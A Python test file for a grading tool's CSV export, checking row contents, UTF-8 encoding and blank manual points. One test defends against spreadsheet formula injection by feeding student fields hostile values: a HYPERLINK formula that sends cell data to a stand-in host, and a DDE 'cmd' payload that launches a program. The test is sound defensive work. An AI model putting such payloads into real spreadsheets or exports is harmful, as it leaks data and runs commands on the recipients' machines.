"""The CSV of everything."""

import csv
import io
from dataclasses import replace
from decimal import Decimal

from grader.batch.exports import EXPORTS, Wishes
from grader.batch.journal import Graded, Student
from grader.results import ManualPoints
from tests.batch.sample_journal import grades_of, handed_in, journal

WISHES = Wishes("Lab 1")


def rows(content: bytes) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(content.decode("utf-8-sig"), newline="")))


def test_each_student_has_one_line_with_everything() -> None:
    students = [Student("ann", "Ann Ø", "ann@x", {"canvas_id": "7"}, "DB-A"), Student("cy", "Cy")]
    export = EXPORTS["csv"](list(grades_of(journal({"ann": "6.5"}, students=students)).values()), WISHES)
    ann, cy = rows(export.content)
    assert (ann["student"], ann["name"], ann["section"], ann["id: canvas_id"]) == (
        "ann",
        "Ann Ø",
        "DB-A",
        "7",
    )
    assert (ann["final_points"], ann["max_points"], ann["status"]) == ("6.5", "10", "complete")
    assert (ann["check: test_1"], ann["check: test_2"]) == ("4", "2.5")
    assert (cy["final_points"], cy["status"], cy["check: test_1"]) == ("", "missing", "")
    assert export.included == 1
    assert [(one.student, one.reason) for one in export.left_out] == [("cy", "nothing was handed in")]


def test_a_spreadsheet_takes_it_for_utf_8() -> None:
    assert EXPORTS["csv"](list(grades_of(journal({"ann": "4"})).values()), WISHES).content.startswith(
        b"\xef\xbb\xbf"
    )


def test_what_students_wrote_is_not_executed() -> None:
    evil = '=HYPERLINK("http://x/?"&A1)'
    students = [
        Student("ann", evil, "-1+cmd|' /C calc'!A0", {"username": "@SUM(A1)"}),
        Student("bob", "a;=1+1"),
    ]
    records = [*journal({"ann": "4"}, students=students), handed_in("ann", group="+1+1")]
    ann, bob = rows(EXPORTS["csv"](list(grades_of(records).values()), WISHES).content)
    assert (ann["name"], bob["name"]) == ("'" + evil, "a;'=1+1")
    assert ann["email"] == "'-1+cmd|' /C calc'!A0"
    assert ann["id: username"] == "'@SUM(A1)"
    assert ann["group"] == "'+1+1"


def test_points_that_a_person_still_owes_are_blank_and_not_zero() -> None:
    (grade,) = grades_of(journal({"ann": "4"})).values()
    assert grade.result is not None
    result = replace(grade.result, manual=(ManualPoints("Style", Decimal(5)),))
    records = journal({"ann": "4"}, Graded(result))
    (row,) = rows(EXPORTS["csv"](list(grades_of(records).values()), WISHES).content)
    assert (row["by hand: Style"], row["final_points"], row["points"]) == ("", "", "4")
